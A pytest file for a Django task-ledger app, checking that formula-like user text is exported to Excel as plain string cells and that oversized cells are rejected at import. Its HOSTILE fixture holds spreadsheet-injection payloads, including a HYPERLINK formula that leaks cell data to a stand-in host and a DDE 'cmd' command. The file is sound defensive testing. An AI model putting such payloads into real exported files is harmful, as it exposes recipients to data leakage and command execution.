"""Exported user text is never a formula: text beginning with = + - @ is
written as a string cell, so opening an export cannot run =HYPERLINK(…) or
=cmd|…; and such text imports back as the same text. A cell longer than
Excel allows never gets in (so no row ships megabytes to the list or API)."""

import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError

from ducha.ledger.exporting import export_ledger
from ducha.ledger.importing import import_ledger
from ducha.ledger.models import Task

from . import badfiles

HOSTILE = {
    "measures": '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
    "target": "+1+cmd|' /C calc'!A0",
    "responsible_people": "-2+3",
    "progress_note": "@SUM(1,2)",
}


def test_text_that_looks_like_a_formula_is_exported_as_text_and_imports_back(world, make_task):
    make_task(number="1", **HOSTILE)
    out = io.BytesIO()
    export_ledger(Task.objects.all(), out)
    xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    for column, text in [("整改措施", HOSTILE["measures"]), ("整改目标", HOSTILE["target"]),
                         ("责任人", HOSTILE["responsible_people"]), ("完成情况", HOSTILE["progress_note"])]:
        assert row[column].data_type == "s" and row[column].value == text, column
    Task.objects.all().delete()
    report = import_ledger(acting_user=world.users["coord"], plan_code="LS-2021", file=io.BytesIO(out.getvalue()),
                           dry_run=False, create_units=False)
    assert report.ok, report.errors
    task = Task.objects.get(number="1")
    assert (task.measures, task.target, task.responsible_people, task.progress_note) == tuple(HOSTILE.values())


@pytest.mark.parametrize("length", [32_768, 1_000_000])
def test_a_task_with_text_longer_than_excel_allows_is_refused_at_import(world, length):
    # Built by hand: openpyxl and xlsxwriter themselves cut such text at 32,767 characters.
    content = badfiles.ledger_with('<row r="3"><c r="A3" t="inlineStr"><is><t>2</t></is></c>'
                                   f'<c r="C3" t="inlineStr"><is><t>{"治" * length}</t></is></c></row>')
    with pytest.raises(ValidationError) as refused:
        import_ledger(acting_user=world.users["coord"], plan_code="LS-2021", file=io.BytesIO(content),
                      dry_run=True, create_units=False)
    assert refused.value.messages == [f"单元格 C3 文本长 {length} 字，超过上限 32767 字"]
    assert not Task.objects.exists()
